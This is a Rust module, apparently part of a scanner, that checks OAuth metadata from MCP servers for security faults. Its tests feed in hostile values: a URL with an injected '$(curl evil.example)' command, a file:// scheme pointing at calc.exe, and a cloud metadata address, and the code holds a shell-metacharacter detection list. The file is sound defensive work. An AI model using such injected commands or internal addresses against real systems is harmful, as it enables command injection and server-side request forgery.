//! Faults of the documents that say how one is let in (RFC 9728, RFC 8414; MCP specification, "Authorization").

use super::{Checked, Looking, Outcome};
use crate::ledger::Purpose;
use crate::listing::fact;
use crate::metadata::{Documents, ProtectedResource, authorization_metadata_places, covers};
use crate::text::shown_url;
use hub_net::EgressPolicy;
use hub_secrets::AuthType;
use serde_json::{Value, json};
use url::Url;

/// One fault: its stable name, and what shows it.
type Fault = (&'static str, String);

impl Looking<'_> {
    pub(super) async fn authorization_metadata(&mut self) -> Checked {
        let target = self.wire.target();
        let documents = Documents::new(
            self.wire.cx(),
            self.wire.ledger(),
            Purpose::AuthorizationMetadata,
            self.wire.ca_cert(),
        )?;
        let protected = documents.protected_resource(target).await?;
        let speaks_of_oauth = protected.document.is_some() || self.wire.dress().auth_type == AuthType::Oauth2;
        if !speaks_of_oauth {
            return Ok(Outcome::NotApplicable("the server speaks of no OAuth"));
        }
        let issuer = protected.document.as_ref().and_then(|(_, d)| issuer_of(d));
        let issuer = issuer.unwrap_or_else(|| target.origin().ascii_serialization());
        let mut server = None;
        if let Ok(url) = Url::parse(&issuer)
            && documents.check_url(&url).is_ok()
        {
            for place in authorization_metadata_places(&url) {
                if let Some(document) = documents.document(&place).await? {
                    server = Some((place, document));
                    break;
                }
            }
        }
        let mut faults = faults_of_resource(target, &protected);
        match &server {
            Some((place, document)) => faults.extend(faults_of_server(target, &issuer, place, document)),
            None => faults.push((
                "authorization_server_metadata_missing",
                format!("nothing is found for the issuer {issuer}"),
            )),
        }
        let tap = self.wire.tap();
        self.facts.extend(faults.into_iter().map(|(name, detail)| {
            fact(
                "authorization_metadata_fault",
                [("fault", json!(name)), ("detail", json!(tap.quote(&detail, 300)))],
            )
        }));
        Ok(Outcome::Done)
    }
}

fn issuer_of(protected: &Value) -> Option<String> {
    let servers = protected.get("authorization_servers")?.as_array()?;
    servers.first()?.as_str().map(str::to_owned)
}

fn faults_of_resource(target: &Url, protected: &ProtectedResource) -> Vec<Fault> {
    let mut faults = Vec::new();
    let Some((place, document)) = &protected.document else {
        faults.push((
            "protected_resource_metadata_missing",
            "neither the refusal nor a well-known place leads to it".to_owned(),
        ));
        return faults;
    };
    if protected.status == Some(401) && !protected.is_named {
        let said = if protected.challenges.is_empty() {
            "no WWW-Authenticate at all"
        } else {
            "a challenge without it"
        };
        faults.push(("challenge_names_no_metadata", format!("the 401 carries {said}")));
    }
    let named = document.get("resource").and_then(Value::as_str).unwrap_or_default();
    if !covers(named, target) {
        faults.push(("metadata_of_another_resource", format!("{} is about `{named}`", shown_url(place))));
    }
    match document.get("authorization_servers").and_then(Value::as_array) {
        Some(list) if !list.is_empty() => {
            for issuer in list.iter().filter_map(Value::as_str) {
                faults.extend(insecure("issuer", issuer, target));
            }
        }
        _ => faults.push(("no_authorization_server", format!("{} names none", shown_url(place)))),
    }
    let ways = document.get("bearer_methods_supported").and_then(Value::as_array);
    if ways.is_some_and(|w| w.iter().any(|m| m == "query")) {
        faults.push((
            "token_in_query",
            "bearer_methods_supported holds `query`: tokens end in logs".to_owned(),
        ));
    }
    faults
}

fn faults_of_server(target: &Url, issuer: &str, place: &Url, document: &Value) -> Vec<Fault> {
    let mut faults = Vec::new();
    let text = |name: &str| document.get(name).and_then(Value::as_str);
    let list = |name: &str| {
        document
            .get(name)
            .and_then(Value::as_array)
            .map(|l| l.iter().filter_map(Value::as_str).collect::<Vec<_>>())
    };
    let speaks_for = text("issuer").unwrap_or_default();
    if speaks_for.trim_end_matches('/') != issuer.trim_end_matches('/') {
        faults.push((
            "wrong_issuer",
            format!("{} speaks for `{speaks_for}`, asked was `{issuer}`", shown_url(place)),
        ));
    }
    for name in [
        "authorization_endpoint",
        "token_endpoint",
        "registration_endpoint",
        "introspection_endpoint",
        "revocation_endpoint",
        "jwks_uri",
    ] {
        if let Some(url) = text(name) {
            faults.extend(insecure(name, url, target));
        }
    }
    if text("token_endpoint").is_none() {
        faults.push(("no_token_endpoint", format!("{} names none", shown_url(place))));
    }
    if text("authorization_endpoint").is_some() {
        match list("code_challenge_methods_supported") {
            Some(methods) if methods.contains(&"S256") => {
                if methods.contains(&"plain") {
                    faults.push((
                        "pkce_plain_allowed",
                        "code_challenge_methods_supported holds `plain` beside `S256`".to_owned(),
                    ));
                }
            }
            Some(methods) => faults.push((
                "pkce_without_s256",
                format!("code_challenge_methods_supported is {}", methods.join(", ")),
            )),
            None => faults.push((
                "pkce_not_announced",
                "code_challenge_methods_supported is missing: clients must refuse".to_owned(),
            )),
        }
    }
    let implicit = |types: &[&str]| types.iter().any(|t| t.split(' ').any(|word| word == "token"));
    if list("response_types_supported").is_some_and(|types| implicit(&types)) {
        faults.push(("implicit_grant", "response_types_supported holds `token`".to_owned()));
    }
    if list("grant_types_supported").is_some_and(|grants| grants.contains(&"password")) {
        faults.push(("password_grant", "grant_types_supported holds `password`".to_owned()));
    }
    let algorithms = list("id_token_signing_alg_values_supported")
        .into_iter()
        .chain(list("token_endpoint_auth_signing_alg_values_supported"))
        .flatten();
    if algorithms.into_iter().any(|a| a == "none") {
        faults.push(("unsigned_tokens", "a list of signing algorithms holds `none`".to_owned()));
    }
    let wild = document
        .get("redirect_uris")
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str);
    faults.extend(
        wild.filter(|uri| uri.contains('*'))
            .map(|uri| ("wildcard_redirect", format!("redirect_uris holds `{uri}`"))),
    );
    faults
}

/// A URL that secrets go to and that is plain http, or is an address no client outside should be sent to. What is local may speak
/// of what is local.
fn insecure(what: &str, url: &str, target: &Url) -> Vec<Fault> {
    // Before the parser escapes it: clients have handed such text to a shell to open it.
    if ["`", "$(", ";", "|", "\"", "\n"].iter().any(|sign| url.contains(sign)) {
        return vec![("shell_in_url", format!("{what} is `{url}`"))];
    }
    let Ok(url) = Url::parse(url) else {
        return vec![("unusable_url", format!("{what} is `{url}`"))];
    };
    if !matches!(url.scheme(), "http" | "https") {
        return vec![("dangerous_scheme", format!("{what} is `{}`", shown_url(&url)))];
    }
    let is_local = |url: &Url| url.host_str() == Some("localhost") || EgressPolicy::public_only().check_url(url).is_err();
    if is_local(target) {
        return Vec::new();
    }
    if is_local(&url) {
        return vec![("private_address", format!("{what} is `{}`", shown_url(&url)))];
    }
    if url.scheme() == "https" {
        Vec::new()
    } else {
        vec![("plain_http", format!("{what} is `{}`", shown_url(&url)))]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(faults: &[Fault]) -> Vec<&'static str> {
        faults.iter().map(|(name, _)| *name).collect()
    }

    fn protected(document: Value, is_named: bool) -> ProtectedResource {
        ProtectedResource {
            document: Some((
                "https://h.example/.well-known/oauth-protected-resource".parse().expect("a URL"),
                document,
            )),
            challenges: Vec::new(),
            status: Some(401),
            is_named,
        }
    }

    #[test]
    fn each_fault_of_the_resource_document_has_its_name() {
        let target: Url = "https://h.example/mcp".parse().expect("a URL");
        let good = json!({"resource": "https://h.example/mcp", "authorization_servers": ["https://as.example"], "bearer_methods_supported": ["header"]});
        assert_eq!(
            names(&faults_of_resource(&target, &protected(good.clone(), true))),
            Vec::<&str>::new()
        );
        assert_eq!(
            names(&faults_of_resource(&target, &protected(good, false))),
            ["challenge_names_no_metadata"]
        );
        for (document, fault) in [
            (
                json!({"resource": "https://evil.example", "authorization_servers": ["https://as.example"]}),
                "metadata_of_another_resource",
            ),
            (json!({"resource": "https://h.example/mcp"}), "no_authorization_server"),
            (
                json!({"resource": "https://h.example/mcp", "authorization_servers": ["http://as.example"]}),
                "plain_http",
            ),
            (
                json!({"resource": "https://h.example/mcp", "authorization_servers": ["https://10.0.0.1"]}),
                "private_address",
            ),
            (
                json!({"resource": "https://h.example/mcp", "authorization_servers": ["https://as.example"], "bearer_methods_supported": ["query"]}),
                "token_in_query",
            ),
        ] {
            assert_eq!(names(&faults_of_resource(&target, &protected(document, true))), [fault]);
        }
    }

    #[test]
    fn each_fault_of_the_authorization_server_has_its_name() {
        let target: Url = "https://h.example/mcp".parse().expect("a URL");
        let place: Url = "https://as.example/.well-known/oauth-authorization-server".parse().expect("a URL");
        let good = json!({
            "issuer": "https://as.example", "authorization_endpoint": "https://as.example/authorize", "token_endpoint": "https://as.example/token",
            "code_challenge_methods_supported": ["S256"], "response_types_supported": ["code"],
        });
        let check = |document: &Value| names(&faults_of_server(&target, "https://as.example/", &place, document));
        assert_eq!(check(&good), Vec::<&str>::new());
        for (key, value, fault) in [
            ("issuer", json!("https://evil.example"), "wrong_issuer"),
            ("token_endpoint", json!("http://as.example/token"), "plain_http"),
            ("token_endpoint", json!(null), "no_token_endpoint"),
            ("code_challenge_methods_supported", json!(["plain"]), "pkce_without_s256"),
            ("code_challenge_methods_supported", json!(["S256", "plain"]), "pkce_plain_allowed"),
            ("code_challenge_methods_supported", json!(null), "pkce_not_announced"),
            ("response_types_supported", json!(["code", "id_token token"]), "implicit_grant"),
            ("grant_types_supported", json!(["password"]), "password_grant"),
            ("redirect_uris", json!(["https://*.example/cb"]), "wildcard_redirect"),
            ("jwks_uri", json!("https://169.254.169.254/"), "private_address"),
            (
                "authorization_endpoint",
                json!("file:///C:/Windows/System32/calc.exe"),
                "dangerous_scheme",
            ),
            (
                "authorization_endpoint",
                json!("https://as.example/$(curl evil.example)"),
                "shell_in_url",
            ),
        ] {
            let mut document = good.clone();
            document[key] = value;
            assert_eq!(check(&document), [fault], "{key}");
        }
    }
}
